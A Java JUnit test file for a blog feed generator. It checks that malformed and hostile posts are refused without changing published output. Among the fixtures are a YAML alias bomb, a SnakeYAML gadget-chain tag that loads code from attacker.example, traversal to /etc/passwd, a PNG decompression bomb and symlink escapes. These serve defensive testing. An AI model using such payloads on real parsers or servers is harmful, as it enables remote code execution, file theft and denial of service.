package dev.feedcard.cli;

import dev.feedcard.testing.TestBlog;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.BiConsumer;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Broken and hostile posts, one per case, added to a blog that already has a good build in its output folder.
 * Each must be refused with a message that names the file (and the line, for front matter), exit 1, and leave
 * every file of the output folder byte for byte as it was. None may hang: each build gets 20 seconds at most.
 */
class BadInputTest {
    private static final Duration HANG = Duration.ofSeconds(20);

    @TempDir
    static Path template;

    /**
     * One bad input.
     *
     * @param name what is wrong, for the test report
     * @param file the file the message must name, relative to the content folder
     * @param line the line the message must name, or 0 when the problem has no line
     * @param message the start of the message
     * @param setUp writes the bad input into the blog (and, when needed, files outside its content folder)
     */
    record Case(String name, String file, int line, String message, BiConsumer<TestBlog, Path> setUp) {
        @Override
        public String toString() {
            return name;
        }

        String expected(String severity) {
            return file + (line > 0 ? ":" + line : "") + ": " + severity + ": " + message;
        }
    }

    private static Case text(String name, String file, int line, String message, String text) {
        return new Case(name, file, line, message, (blog, outside) -> blog.text(file, text));
    }

    private static Case bytes(String name, String file, int line, String message, byte[] bytes) {
        return new Case(name, file, line, message, (blog, outside) -> blog.bytes(file, bytes));
    }

    /** A post whose front matter has {@code lines} after a good title and date. */
    private static Case frontMatter(String name, String file, int line, String message, String lines) {
        return text(name, file, line, message, "---\ntitle: A title\ndate: 2024-05-01\n" + lines + "\n---\nText.\n");
    }

    static List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        // the shape of the file
        cases.add(text("no front matter", "no-front-matter.md", 1, "the file does not start with front matter", "Just some text.\n"));
        cases.add(text("only white space", "blank.md", 1, "the file does not start with front matter", "  \n\n\t\n"));
        cases.add(text("front matter never closed", "unclosed.md", 1, "the front matter is never closed",
                "---\ntitle: Open\ndate: 2024-05-01\n\nThe text goes on.\n"));
        cases.add(text("front matter never closed, CRLF", "unclosed-crlf.md", 1, "the front matter is never closed",
                "---\r\ntitle: Open\r\ndate: 2024-05-01\r\n"));
        cases.add(bytes("empty file", "empty.md", 0, "the file is empty", new byte[0]));
        cases.add(bytes("Latin-1, not UTF-8", "latin-1.md", 0, "the file is not UTF-8 text",
                "---\ntitle: Café crème\ndate: 2024-05-01\n---\nDéjà vu.\n".getBytes(StandardCharsets.ISO_8859_1)));
        cases.add(bytes("UTF-16", "utf-16.md", 0, "the file is not",
                "\uFEFF---\ntitle: Wide\ndate: 2024-05-01\n---\nText.\n".getBytes(StandardCharsets.UTF_16LE)));
        cases.add(bytes("a PNG named .md", "picture.md", 0, "the file is not UTF-8 text", png()));
        cases.add(bytes("NUL bytes in the text", "nul.md", 0, "the file is not text (it contains NUL bytes)",
                "---\ntitle: Nul\ndate: 2024-05-01\n---\nA\0B\n".getBytes(StandardCharsets.UTF_8)));
        cases.add(new Case("larger than 16 MB", "huge-file.md", 0, "the file is larger than 16 MB",
                (blog, outside) -> blog.text("huge-file.md", "---\ntitle: Huge\ndate: 2024-05-01\n---\n" + "word ".repeat(3_500_000))));
        cases.add(text("megabytes of front matter", "huge-front-matter.md", 2, "the front matter is 2048 KB long",
                "---\ntitle: Huge\ndate: 2024-05-01\nnotes: \"" + "x".repeat(2 * 1024 * 1024) + "\"\n---\nText.\n"));

        // YAML that does not parse
        cases.add(frontMatter("a list never closed", "unclosed-list.md", 4,
                "the front matter is not valid YAML: the list that opens with '[' on this line is not closed properly", "tags: [a, b\nmore: x"));
        cases.add(frontMatter("a quote never closed", "unclosed-quote.md", 4,
                "the front matter is not valid YAML: the quoted text that starts on this line never ends", "description: \"no end"));
        cases.add(frontMatter("a tab used for indentation", "tab.md", 5, "the front matter is not valid YAML",
                "author:\n\tname: Tab"));
        cases.add(frontMatter("a colon in a plain value", "colon.md", 4, "the front matter is not valid YAML",
                "description: Note: this breaks"));
        cases.add(text("front matter that is a list", "list-front-matter.md", 2, "the front matter is not a list of settings",
                "---\n- title\n- date\n---\nText.\n"));
        cases.add(text("front matter that is one word", "scalar-front-matter.md", 2, "the front matter is not a list of settings",
                "---\njust words\n---\nText.\n"));

        // hostile YAML
        cases.add(text("a billion laughs (alias bomb)", "alias-bomb.md", 2,
                "the front matter repeats lists or mappings through more than 20 aliases", aliasBomb()));
        cases.add(frontMatter("a global tag that would build a Java object", "global-tag.md", 4,
                "the front matter is not valid YAML: the tag '!!javax.script.ScriptEngineManager' is not allowed",
                "image: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]"));
        cases.add(text("a binary value as the title", "binary-title.md", 2, "'title' is binary data, not text",
                "---\ntitle: !!binary aGVsbG8gd29ybGQ=\ndate: 2024-05-01\n---\nText.\n"));
        cases.add(frontMatter("20 000 nested lists", "deep-flow.md", 4, "the front matter is nested too deeply",
                "x: " + "[".repeat(20_000) + "]".repeat(20_000)));
        cases.add(frontMatter("300 nested mappings", "deep-block.md", 54, "the front matter is nested too deeply", deepBlock(300)));
        cases.add(frontMatter("300 nested sequences on one line", "deep-sequence.md", 5, "the front matter is nested too deeply",
                "x:\n  " + "- ".repeat(300) + "deep"));
        cases.add(text("a title that refers to itself", "recursive-title.md", 2, "'title' is a list, not text",
                "---\ntitle: &t [*t]\ndate: 2024-05-01\n---\nText.\n"));
        cases.add(text("TOML nested 20 000 deep", "deep.toml.md", 2, "the front matter is nested too deeply",
                "+++\ntitle = \"Deep\"\ndate = 2024-05-01\nx = " + "[".repeat(20_000) + "]".repeat(20_000) + "\n+++\nText.\n"));
        cases.add(text("JSON nested 20 000 deep", "deep-json.md", 1, "the front matter is nested too deeply",
                "{\n\"title\": \"Deep\", \"date\": \"2024-05-01\", \"x\": " + "[".repeat(20_000) + "]".repeat(20_000) + "\n}\nText.\n"));
        cases.add(text("TOML that does not parse", "broken-toml.md", 2, "the front matter is not valid TOML",
                "+++\ntitle = Unquoted words\ndate = 2024-05-01\n+++\nText.\n"));
        cases.add(text("JSON with a trailing comma", "broken-json.md", 3, "the front matter is not valid JSON",
                "{\n\"title\": \"Comma\",\n}\nText.\n"));

        // values of the wrong kind
        cases.add(text("no title", "no-title.md", 2, "the post has no title", "---\ndate: 2024-05-01\n---\nText.\n"));
        cases.add(text("an empty title", "empty-title.md", 2, "the post has no title", "---\ntitle: \"  \"\ndate: 2024-05-01\n---\nText.\n"));
        cases.add(text("a null title", "null-title.md", 2, "the post has no title", "---\ntitle: null\ndate: 2024-05-01\n---\nText.\n"));
        cases.add(text("a title that is a list", "title-list.md", 2, "'title' is a list, not text", "---\ntitle: [a, b]\ndate: 2024-05-01\n---\nText.\n"));
        cases.add(text("a title that is a map", "title-map.md", 2, "'title' is a mapping, not text",
                "---\ntitle:\n  en: Hello\n  fr: Bonjour\ndate: 2024-05-01\n---\nText.\n"));
        cases.add(frontMatter("a description that is a map", "description-map.md", 4, "'description' is a mapping, not text",
                "description: {a: b}"));
        cases.add(text("no date", "no-date.md", 2, "the post has no date", "---\ntitle: Undated\n---\nText.\n"));
        cases.add(text("the 30th of February", "february-30.md", 3, "'2024-02-30' is not a date",
                "---\ntitle: Leap\ndate: 2024-02-30\n---\nText.\n"));
        cases.add(text("month 13", "month-13.md", 3, "'2024-13-01' is not a date", "---\ntitle: Month\ndate: 2024-13-01\n---\nText.\n"));
        cases.add(text("a date in words", "yesterday.md", 3, "'yesterday' is not a date", "---\ntitle: Words\ndate: yesterday\n---\nText.\n"));
        cases.add(text("an offset of 25 hours", "offset.md", 3, "'2024-05-01T10:00:00+25:00' is not a date",
                "---\ntitle: Offset\ndate: 2024-05-01T10:00:00+25:00\n---\nText.\n"));
        cases.add(frontMatter("an updated date that is not a date", "updated.md", 4, "'soon' is not a date", "updated: soon"));

        // paths that lead out of the content folder
        cases.add(frontMatter("a featured image up and out", "image-escape.md", 4, "the featured image '../../etc/passwd' is outside the content folder",
                "featuredImage: ../../etc/passwd"));
        cases.add(frontMatter("a featured image at an absolute path", "image-absolute.md", 4, "the featured image '/etc/passwd' does not exist",
                "featuredImage: /etc/passwd"));
        cases.add(new Case("a featured image that is a link out", "image-link.md", 4,
                "the featured image 'secret.png' links to a file outside the content folder", (blog, outside) -> {
                    blog.text("image-link.md", "---\ntitle: Link\ndate: 2024-05-01\nfeaturedImage: secret.png\n---\nText.\n");
                    link(blog.content().resolve("secret.png"), image(outside.resolve("secret.png")));
                }));
        cases.add(new Case("a featured image in a folder that is a link out", "folder-link/index.md", 4,
                "the featured image '_pictures/photo.png' links to a file outside the content folder", (blog, outside) -> {
                    blog.text("folder-link/index.md", "---\ntitle: Folder link\ndate: 2024-05-01\nfeaturedImage: _pictures/photo.png\n---\nText.\n");
                    image(outside.resolve("pictures/photo.png"));
                    // named with '_' so that the content folder's scan passes it over: the image's own check is what is tested
                    link(blog.content().resolve("folder-link/_pictures"), outside.resolve("pictures"));
                }));
        cases.add(frontMatter("a featured image that is not there", "image-missing.md", 4, "the featured image 'nowhere.png' does not exist",
                "featuredImage: nowhere.png"));
        cases.add(frontMatter("a featured image URL with a space", "image-url.md", 4, "'http://exa mple.com/a.png' is not a valid URL",
                "featuredImage: \"http://exa mple.com/a.png\""));
        cases.add(new Case("a featured image that is text", "image-text/index.md", 4, "cannot make a card from the featured image 'cover.png'", (blog, outside) -> {
            blog.text("image-text/index.md", "---\ntitle: Text image\ndate: 2024-05-01\nfeaturedImage: cover.png\n---\nText.\n");
            blog.text("image-text/cover.png", "this is not a picture");
        }));
        cases.add(new Case("a featured image that is empty", "image-empty/index.md", 4, "cannot make a card from the featured image 'cover.png'", (blog, outside) -> {
            blog.text("image-empty/index.md", "---\ntitle: Empty image\ndate: 2024-05-01\nfeaturedImage: cover.png\n---\nText.\n");
            blog.bytes("image-empty/cover.png", new byte[0]);
        }));
        cases.add(imageCase("a decompression bomb (a 20000x20000 PNG)", "image-bomb", "bomb.png", pngHeader(20_000, 20_000),
                "cannot make a card from the featured image 'bomb.png': the image is 20000x20000 (400 megapixels), more than the limit of 100 megapixels"));
        cases.add(imageCase("a JPEG cut in half", "image-truncated", "photo.jpg", truncatedJpeg(),
                "cannot make a card from the featured image 'photo.jpg': the image file is cut short"));
        cases.add(imageCase("a JPEG with garbage after its first bytes", "image-corrupt", "photo.jpg", corruptJpeg(),
                "cannot make a card from the featured image 'photo.jpg'"));
        cases.add(frontMatter("a slug that climbs out", "slug-escape.md", 4, "the slug '../../evil' cannot be part of a URL",
                "slug: ../../evil"));
        cases.add(frontMatter("a slug with a slash", "slug-slash.md", 4, "the slug 'a/b' cannot be part of a URL", "slug: a/b"));

        cases.add(new Case("a featured image that is a named pipe", "image-pipe/index.md", 4,
                "the featured image 'cover.png' is not a regular file (but a named pipe, a socket or a device)", (blog, outside) -> {
                    blog.text("image-pipe/index.md", "---\ntitle: Pipe image\ndate: 2024-05-01\nfeaturedImage: cover.png\n---\nText.\n");
                    fifo(blog.content().resolve("image-pipe/cover.png"));
                }));

        // what the content folder holds besides post files and folders
        cases.add(new Case("a post file that is a link out", "link-out.md", 0, "this is a link to ", (blog, outside) -> {
            blog.text("../outside/secret.md", "---\ntitle: Secret\ndate: 2024-05-01\n---\nNot for the feed.\n");
            link(blog.content().resolve("link-out.md"), outside.resolve("secret.md"));
        }));
        cases.add(new Case("a folder that is a link out", "folder-out", 0, "this is a link to ", (blog, outside) -> {
            blog.text("../outside/posts/private.md", "---\ntitle: Private\ndate: 2024-05-01\n---\nNot for the feed.\n");
            link(blog.content().resolve("folder-out"), outside.resolve("posts"));
        }));
        cases.add(new Case("a link to nothing", "dangling.md", 0, "this is a link to 'nowhere.md', which does not exist",
                (blog, outside) -> link(blog.content().resolve("dangling.md"), Path.of("nowhere.md"))));
        cases.add(new Case("a folder link back to the content folder", "notes/loop", 0,
                "this is a link back to the content folder, which holds it, so its posts would be found again and again",
                (blog, outside) -> link(blog.content().resolve("notes/loop"), Path.of(".."))));
        cases.add(new Case("a named pipe named like a post", "pipe.md", 0,
                "this is not a regular file (but a named pipe, a socket or a device), so it is not read as a post",
                (blog, outside) -> fifo(blog.content().resolve("pipe.md"))));

        // two posts, one URL
        cases.add(new Case("two posts with one URL", "same/index.md", 0, "this post has the same URL (/same/) as notes/same.md", (blog, outside) -> {
            blog.post("notes/same.md", "Same one", "2024-05-01");
            blog.post("same/index.md", "Same two", "2024-05-02");
        }));
        return cases;
    }

    private static Case imageCase(String name, String folder, String image, byte[] bytes, String message) {
        return new Case(name, folder + "/index.md", 4, message, (blog, outside) -> {
            blog.text(folder + "/index.md", "---\ntitle: " + name + "\ndate: 2024-05-01\nfeaturedImage: " + image + "\n---\nText.\n");
            blog.bytes(folder + "/" + image, bytes);
        });
    }

    /** A PNG whose header says width x height, with a tiny body: what a decompression bomb looks like before it is decoded. */
    private static byte[] pngHeader(int width, int height) {
        java.io.ByteArrayOutputStream png = new java.io.ByteArrayOutputStream();
        png.writeBytes(new byte[]{(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        java.nio.ByteBuffer ihdr = java.nio.ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(png, "IHDR", ihdr.array());
        java.io.ByteArrayOutputStream zipped = new java.io.ByteArrayOutputStream();
        try (java.util.zip.DeflaterOutputStream z = new java.util.zip.DeflaterOutputStream(zipped)) {
            z.write(new byte[64 * 1024]);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        chunk(png, "IDAT", zipped.toByteArray());
        chunk(png, "IEND", new byte[0]);
        return png.toByteArray();
    }

    private static void chunk(java.io.ByteArrayOutputStream png, String type, byte[] data) {
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        crc.update(typeBytes);
        crc.update(data);
        png.writeBytes(java.nio.ByteBuffer.allocate(4).putInt(data.length).array());
        png.writeBytes(typeBytes);
        png.writeBytes(data);
        png.writeBytes(java.nio.ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    private static byte[] jpeg() {
        java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(900, 600, java.awt.image.BufferedImage.TYPE_INT_RGB);
        java.util.Random random = new java.util.Random(3);
        for (int y = 0; y < 600; y++) for (int x = 0; x < 900; x++) image.setRGB(x, y, random.nextInt());
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        try {
            javax.imageio.ImageIO.write(image, "jpeg", bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] truncatedJpeg() {
        byte[] whole = jpeg();
        return java.util.Arrays.copyOf(whole, whole.length / 2);
    }

    private static byte[] corruptJpeg() {
        byte[] bytes = new byte[50_000];
        new java.util.Random(4).nextBytes(bytes);
        bytes[0] = (byte) 0xFF;
        bytes[1] = (byte) 0xD8;
        return bytes;
    }

    @BeforeAll
    static void goodBuild() {
        TestBlog blog = new TestBlog(template);
        blog.post("hello/index.md", "Hello", "2024-01-01");
        blog.text("hello/index.md", "---\ntitle: Hello\ndate: 2024-01-01\nfeaturedImage: cover.png\ntags: [intro]\n---\nHello, world.\n");
        blog.image("hello/cover.png", 900, 600);
        blog.post("second.md", "Second", "2024-02-01");
        blog.post("notes/third.md", "Third", "2024-03-01");
        TestBlog.Run run = blog.build();
        assertEquals(Main.OK, run.code(), run.toString());
    }

    @Test
    void thereAreAtLeastFortyDistinctCases() {
        List<Case> cases = cases();
        assertTrue(cases.size() >= 40, "only " + cases.size() + " cases");
        Set<String> files = new HashSet<>();
        for (Case c : cases) assertTrue(files.add(c.file()), "two cases share " + c.file());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void isRefusedWithAMessageAndChangesNothing(Case bad, @TempDir Path dir) throws IOException {
        TestBlog blog = copyOfTheGoodBlog(dir);
        Map<String, String> before = TestBlog.hashes(blog.out());
        bad.setUp().accept(blog, dir.resolve("outside"));

        // a changed title: had anything been published, every feed would differ
        TestBlog.Run run = assertTimeoutPreemptively(HANG, () -> blog.build("--title", "A new title"));

        assertEquals(Main.CONTENT_ERRORS, run.code(), run.toString());
        assertTrue(run.err().contains(bad.expected("error")), "expected '" + bad.expected("error") + "' in\n" + run.err());
        assertTrue(run.err().contains("1 error; nothing in " + blog.out() + " was changed"), run.err());
        assertEquals("", run.out());
        assertEquals(before, TestBlog.hashes(blog.out()), "the output folder changed");
    }

    @Test
    void everyProblemIsReportedInOneBuild(@TempDir Path dir) throws IOException {
        TestBlog blog = copyOfTheGoodBlog(dir);
        Map<String, String> before = TestBlog.hashes(blog.out());
        for (Case bad : cases()) bad.setUp().accept(blog, dir.resolve("outside"));

        TestBlog.Run run = assertTimeoutPreemptively(HANG, () -> blog.build("--title", "A new title"));

        assertEquals(Main.CONTENT_ERRORS, run.code(), run.toString());
        for (Case bad : cases()) assertTrue(run.err().contains(bad.expected("error")), "expected '" + bad.expected("error") + "' in\n" + run.err());
        assertTrue(run.err().contains(cases().size() + " errors; nothing in " + blog.out() + " was changed"), run.err());
        assertEquals(before, TestBlog.hashes(blog.out()));
    }

    @Test
    void keepGoingPublishesTheGoodPostsAndListsEveryBrokenOne(@TempDir Path dir) throws Exception {
        TestBlog blog = copyOfTheGoodBlog(dir);
        for (Case bad : cases()) bad.setUp().accept(blog, dir.resolve("outside"));

        TestBlog.Run run = assertTimeoutPreemptively(HANG, () -> blog.build("--keep-going", "--title", "A new title", "--limit", "0"));

        assertEquals(Main.OK, run.code(), run.toString());
        for (Case bad : cases()) {
            // a post whose image cannot become a card is still published, with a title card
            String expected = bad.file().startsWith("image-") || bad.message().contains("featured image")
                    ? bad.expected("warning")
                    : bad.expected("warning").replace("warning: ", "warning: skipped: ");
            assertTrue(run.err().contains(expected), "expected '" + expected + "' in\n" + run.err());
        }
        assertTrue(!run.err().contains("error:"), run.err());
        org.w3c.dom.Document atom = TestBlog.parseXml(Files.readAllBytes(blog.out().resolve("atom.xml")));
        Set<String> titles = new HashSet<>();
        org.w3c.dom.NodeList entries = atom.getElementsByTagNameNS("http://www.w3.org/2005/Atom", "entry");
        for (int i = 0; i < entries.getLength(); i++) {
            titles.add(((org.w3c.dom.Element) entries.item(i)).getElementsByTagNameNS("http://www.w3.org/2005/Atom", "title").item(0).getTextContent());
        }
        // the good posts, the first of two posts with one URL, and every post whose image could not be used (with a title
        // card): missing, outside the content folder, a link out, a named pipe, not an image ("A title" is the posts
        // that the front matter cases write)
        assertEquals(Set.of("Hello", "Second", "Third", "Same one", "Text image", "Empty image", "a decompression bomb (a 20000x20000 PNG)",
                "a JPEG cut in half", "a JPEG with garbage after its first bytes", "A title", "Link", "Folder link", "Pipe image"), titles);
        assertTrue(Files.exists(blog.out().resolve("cards/hello.jpg")));
        assertTrue(Files.exists(blog.out().resolve("cards/image-text.jpg")));
    }

    private static TestBlog copyOfTheGoodBlog(Path dir) throws IOException {
        copy(template.resolve("content"), dir.resolve("content"));
        copy(template.resolve("out"), dir.resolve("out"));
        Files.createDirectories(dir.resolve("outside"));
        return new TestBlog(dir);
    }

    private static void copy(Path from, Path to) throws IOException {
        try (Stream<Path> walk = Files.walk(from)) {
            for (Path p : walk.toList()) {
                Path target = to.resolve(from.relativize(p).toString());
                if (Files.isDirectory(p)) Files.createDirectories(target);
                else Files.copy(p, target);
            }
        }
    }

    private static String aliasBomb() {
        StringBuilder yaml = new StringBuilder("---\ntitle: Laughs\ndate: 2024-05-01\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        String previous = "a";
        for (char c = 'b'; c <= 'i'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            yaml.append("]\n");
            previous = String.valueOf(c);
        }
        return yaml.append("---\nText.\n").toString();
    }

    private static String deepBlock(int depth) {
        StringBuilder yaml = new StringBuilder("x:\n");
        for (int i = 1; i <= depth; i++) yaml.append(" ".repeat(i)).append("k:\n");
        return yaml.append(" ".repeat(depth + 1)).append("end").toString();
    }

    private static byte[] png() {
        try {
            java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(8, 8, java.awt.image.BufferedImage.TYPE_INT_RGB);
            java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
            javax.imageio.ImageIO.write(image, "png", bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Path image(Path file) {
        try {
            Files.createDirectories(file.getParent());
            java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(640, 400, java.awt.image.BufferedImage.TYPE_INT_RGB);
            javax.imageio.ImageIO.write(image, "png", file.toFile());
            return file;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A named pipe: a program that reads it waits until another writes to it, which no one here does. */
    private static void fifo(Path path) {
        try {
            Files.createDirectories(path.getParent());
            Process mkfifo = new ProcessBuilder("mkfifo", path.toString()).redirectErrorStream(true).start();
            String output = new String(mkfifo.getInputStream().readAllBytes());
            if (mkfifo.waitFor() != 0) throw new IOException("mkfifo " + path + ": " + output);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static void link(Path link, Path target) {
        try {
            Files.createDirectories(link.getParent());
            Files.createSymbolicLink(link, target);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
